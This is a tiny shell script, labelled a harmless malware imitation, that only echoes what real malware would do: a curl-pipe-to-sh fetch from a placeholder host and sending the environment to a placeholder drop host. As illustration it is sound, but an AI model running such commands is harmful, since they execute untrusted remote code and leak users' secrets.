#!/bin/sh
# DEMO: a harmless imitation of malware. It prints what a real one would do and does none of it.
echo "would run: curl -s https://fast.example.invalid/install | sh"
echo "would send: your environment to https://drop.example.invalid/"
